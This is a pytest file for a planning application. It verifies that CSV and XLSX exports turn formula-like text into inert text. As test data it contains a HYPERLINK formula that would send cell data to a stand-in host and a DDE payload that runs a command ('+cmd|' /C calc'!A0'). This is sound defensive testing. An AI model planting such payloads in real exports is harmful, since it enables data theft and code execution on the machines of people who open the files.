"""Exports are safe to open: text that a spreadsheet would run as a formula is made inert, in
the CSV and in the XLSX, through one function."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from core import db
from core.enums import Rag
from core.services.records.spreadsheet_safety import FORMULA_STARTS, safe_cell
from tests.helpers import not_applying_in_dundee

FORMULA = '=HYPERLINK("http://x/?d="&B3,"ok")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_is_given_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_values_are_left_as_they_are():
    assert safe_cell("Child protection") == "Child protection"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("a=b") == "a=b"


def test_rollup_exports_carry_formulas_as_text(app, client_for):
    with app.app_context(), db.transaction() as session:
        not_applying_in_dundee(session, FORMULA, text="@SUM(1+1)", reason="+cmd|' /C calc'!A0")
    web = client_for(app, "pg5")
    text = web.get("/tric/rollup.csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{FORMULA}" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    book = load_workbook(io.BytesIO(web.get("/tric/rollup.xlsx").data))
    values = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert f"'{FORMULA}" in [c.value for c in values]
    assert not [
        c.value for c in values if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]


LEADS = ('=HYPERLINK("http://x/","y") ', "+1 ", "-1 ", "@SUM(1) ", "\t", "\r", " =1+1 ")
TEXT_FIELDS = {
    "title", "summary", "source", "text", "expected_impact", "leads", "kpi_measures",
    "commitment", "notes", "frequency", "R", "A", "G", "commentary",
}  # fmt: skip


def _poisoned(value, key: str, turn: list[int]):
    """Every text field of the plan file, each starting like a formula in turn."""
    if isinstance(value, dict):
        return {k: _poisoned(v, k, turn) for k, v in value.items()}
    if isinstance(value, list):
        return [_poisoned(v, key, turn) for v in value]
    if isinstance(value, str) and key in TEXT_FIELDS:
        turn[0] += 1
        return LEADS[turn[0] % len(LEADS)] + value
    return value


def _cells(export: bytes, kind: str) -> list:
    if kind == "csv":
        text = export.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(export))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def test_every_text_field_of_every_export_is_written_inert(app, client_for):
    """A plan whose every text field starts like a formula: the plan workbook, the report's
    CSV and workbook, and the rollup's, hold no cell a spreadsheet would run."""
    import json

    from core.services.plans import plans
    from core.services.plans.plan_transfer import import_plan
    from tests.helpers import PK, report

    with app.app_context(), db.transaction() as session:
        report(session, "1.1", Rag.AMBER)
        plan = plans.plan_by_slug(session, PK, "2021-2023")
        exported = json.loads(
            client_for(app, "pk").get(f"/areas/{PK}/plans/2021-2023/export.json").data
        )
        poisoned = _poisoned({**exported, "slug": "poisoned"}, "", [0])
        import_plan(session, json.dumps(poisoned).encode(), "p.json", area=plan.area, actor=None)
    web = client_for(app, "pk")
    base = f"/areas/{PK}/plans/poisoned"
    exports = {
        "plan workbook": (web.get(f"{base}/export.xlsx"), "xlsx"),
        "report CSV": (web.get(f"{base}/report/download?format=csv"), "csv"),
        "report workbook": (web.get(f"{base}/report/download?format=xlsx"), "xlsx"),
    }
    for name, (answer, kind) in exports.items():
        assert answer.status_code == 200, name
        values = _cells(answer.data, kind)
        live = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
        assert live == [], name
        assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values), name


def test_only_the_safe_writers_write_rows_of_an_export():
    """Every CSV and workbook row goes through spreadsheet_safety's writers."""
    import re
    from pathlib import Path

    core = Path(__file__).resolve().parents[1] / "core"
    raw = re.compile(r"csv\.writer\(|\bsheet\.append\(")
    writers = [
        str(path.relative_to(core))
        for path in core.rglob("*.py")
        if path.name != "spreadsheet_safety.py" and raw.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == []
